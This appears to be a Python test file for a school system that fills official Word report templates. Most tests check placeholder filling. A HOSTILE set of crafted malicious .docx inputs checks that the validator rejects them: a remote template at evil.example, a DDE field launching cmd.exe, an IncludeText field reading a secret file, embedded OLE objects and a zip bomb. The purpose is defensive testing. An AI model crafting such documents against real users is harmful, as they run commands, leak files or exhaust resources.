"""The school's own file in the place of our form: filled as it should be, and hostile ones refused."""

import io
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from lms.kernel import sandbox
from lms.kernel.archives import packed
from lms.kernel.errors import Invalid
from lms.kernel.official.build import build, form
from lms.kernel.official.slots import BLOCKS, INLINE
from lms.kernel.official.sources import read_back
from lms.kernel.official.template import check, fill
from tests.kernel.official.make import NOW, paper
from tests.kernel.official.reading import W, find, paragraphs, xml

NAMES = (*INLINE, *BLOCKS)


def files(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def changed(content: bytes, name: str, old: str, new: str) -> bytes:
    held = files(content)
    before = held[name].decode()
    assert old in before
    held[name] = before.replace(old, new, 1).encode()
    return packed(held)


def word_file(*paragraphs_: str | tuple[str, ...], also: Callable[[Any], None] | None = None) -> bytes:
    """A file as Word writes it: each paragraph cut into runs where a tuple says so."""
    from docx import Document

    document = Document()
    for text in paragraphs_:
        paragraph = document.add_paragraph()
        for piece in (text,) if isinstance(text, str) else text:
            paragraph.add_run(piece).bold = True
    if also:
        also(document)
    held = io.BytesIO()
    document.save(held)
    return held.getvalue()


LEAST = ("{{ten_loai}}", "{{trich_yeu}}", "{{noi_dung}}")


def test_our_own_form_is_a_template_that_has_every_place() -> None:
    ours = form(NOW)
    assert set(check(ours).names) == set(NAMES)
    assert check(ours).left_out == ()


def test_our_form_filled_says_what_our_paper_says() -> None:
    filled, built = (
        [p.text for p in paragraphs(made) if p.text] for made in (fill(form(NOW), paper(), NOW), build(paper(), NOW))
    )  # fmt: skip
    assert sorted(filled) == sorted(built)
    assert not [text for text in filled if "{{" in text]


def test_figures_and_sources_come_along() -> None:
    filled, built = read_back(fill(form(NOW), paper(), NOW)), read_back(build(paper(), NOW))
    assert (filled.figures, filled.gaps, filled.sources) == (built.figures, built.gaps, built.sources)
    assert [figure.text for figure in built.figures] == ["110", "3", "6", "9", "3", "6"]
    assert built.gaps == ["chi_dao"]


def test_places_that_word_cut_into_runs_are_filled_and_keep_their_look() -> None:
    made = fill(
        word_file(("Trường: {", "{co_quan", "_ban_hanh}", "}, số {{so_ky_", "hieu}}."), *LEAST), paper(), NOW
    )
    text = "".join(t.text or "" for t in xml(made).iter(f"{W}t"))
    assert f"Trường: TRƯỜNG TRUNG CẤP NGHỀ DIÊN KHÁNH, số Số:{chr(160) * 10}/BC-TCNDK." in text
    first = next(r for r in xml(made).iter(f"{W}r") if "TRƯỜNG TRUNG" in "".join(t.text or "" for t in r.iter(f"{W}t")))  # fmt: skip
    assert first.find(f"{W}rPr/{W}b") is not None


def test_a_place_in_a_cell_leaves_a_paragraph_in_it() -> None:
    def add(document: Any) -> None:
        cells = document.add_table(1, 2).rows[0].cells
        cells[0].paragraphs[0].add_run("{{noi_nhan}}")
        cells[1].paragraphs[0].add_run("{{kinh_gui}}")

    made = fill(word_file(*LEAST, also=add), paper(to=()), NOW)
    cells = list(xml(made).iter(f"{W}tc"))[-2:]
    for cell in xml(made).iter(f"{W}tc"):
        assert cell.findall(f"{W}p")
    assert cells
    assert find(made, "Nơi nhận:")


def test_text_of_a_paper_is_never_read_as_a_place() -> None:
    made = fill(word_file(*LEAST), paper(subject="{{noi_dung}} {{la}}"), NOW)
    text = "".join(t.text or "" for t in xml(made).iter(f"{W}t"))
    assert "{{noi_dung}} {{la}}" in text
    assert text.count("Trên đây là") == 1


def test_ids_of_controls_stay_unique_with_those_of_the_template() -> None:
    made = fill(form(NOW), paper(), NOW)
    again = files(made)["word/document.xml"].decode()
    ids = [c.get(f"{W}val") for s in xml(made).iter(f"{W}sdtPr") for c in s.findall(f"{W}id")]
    assert len(ids) == len(set(ids)) == again.count("<w:sdt>")


@pytest.mark.parametrize(
    ("lines", "said"),
    [
        (("{{ten_loai}}", "{{trich_yeu}}"), "{{noi_dung}}"),
        ((*LEAST, "{{ten_truong}}"), "{{ten_truong}}"),
        (("{{ten_loai}}", "{{trich_yeu}}", "Nội dung: {{noi_dung}}"), "một mình"),
        ((*LEAST, "{{noi_dung}}"), "hơn một lần"),
        ((), "{{ten_loai}}"),
    ],
)
def test_what_is_wrong_with_names_is_said(lines: tuple[str, ...], said: str) -> None:
    with pytest.raises(Invalid) as refused:
        check(word_file(*lines))
    assert said in refused.value.message.plain()


def test_a_name_in_the_page_head_is_told_where_it_belongs() -> None:
    def add(document: Any) -> None:
        document.sections[0].header.paragraphs[0].add_run("{{so_ky_hieu}}")

    with pytest.raises(Invalid, match="đầu trang"):
        check(word_file(*LEAST, also=add))


def rels(more: str) -> bytes:
    return changed(
        word_file(*LEAST), "word/_rels/document.xml.rels", "</Relationships>", f"{more}</Relationships>"
    )


OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HOSTILE = {
    "no archive": b"PK\x03\x04 but nothing else",
    "not Word": packed({"[Content_Types].xml": b"<Types/>", "hello.txt": b"hello"}),
    "a declaration": changed(
        word_file(*LEAST), "word/document.xml", "<w:document", '<!DOCTYPE d [<!ENTITY a "aaaa">]><w:document'
    ),
    "a remote template": rels(
        f'<Relationship Id="rId90" Type="{OFFICE}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    ),
    "a remote picture": rels(
        f'<Relationship Id="rId91" Type="{OFFICE}/image" Target="file:///x.png" TargetMode="External"/>'
    ),
    "an embedded object": rels(f'<Relationship Id="rId92" Type="{OFFICE}/oleObject" Target="embeddings/o.bin"/>'),
    "another document": rels(f'<Relationship Id="rId93" Type="{OFFICE}/aFChunk" Target="afchunk.html"/>'),
    "a file inside": packed(files(word_file(*LEAST)) | {"word/embeddings/oleObject1.bin": b"MZ"}),
    "a field that runs": changed(
        word_file(*LEAST), "word/document.xml", "<w:body>",
        "<w:body><w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>",
    ),
    "a field that reads": changed(
        word_file(*LEAST), "word/document.xml", "<w:body>",
        '<w:body><w:p><w:fldSimple w:instr=" IncludeText &quot;c:/secret&quot; "/></w:p>',
    ),
    "broken XML": changed(word_file(*LEAST), "word/document.xml", "</w:body>", ""),
    "a bomb": packed(files(word_file(*LEAST)) | {"word/media/x.xml": b" " * 60_000_000}),
}  # fmt: skip


@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_file_is_refused_with_a_sentence(content: bytes) -> None:
    with pytest.raises(Invalid) as refused:
        check(content)
    assert len(refused.value.message.plain()) > 40


def test_a_link_is_no_danger() -> None:
    linked = rels(
        f'<Relationship Id="rId90" Type="{OFFICE}/hyperlink" Target="https://example.vn" TargetMode="External"/>'
    )
    assert check(linked).names


def test_the_child_looks_at_it(tmp_path: Path) -> None:
    path = tmp_path / "mau.docx"
    path.write_bytes(form(NOW))
    assert set(sandbox.ask("lms.kernel.official.child", {"path": str(path)})["names"]) == set(NAMES)
    path.write_bytes(HOSTILE["a remote template"])
    with pytest.raises(Invalid, match=r"evil\.example"):
        sandbox.ask("lms.kernel.official.child", {"path": str(path)})


@pytest.mark.parametrize("content", [word_file("Xin chào"), HOSTILE["no archive"], HOSTILE["a declaration"]])
def test_only_our_papers_can_be_read_back(content: bytes) -> None:
    with pytest.raises(Invalid):
        read_back(content)


def test_a_gap_that_was_filled_is_no_gap_any_more() -> None:
    made = build(paper(), NOW)
    typed = changed(made, "word/document.xml", "<w:showingPlcHdr/>", "")
    assert read_back(made).gaps == ["chi_dao"]
    assert read_back(typed).gaps == []
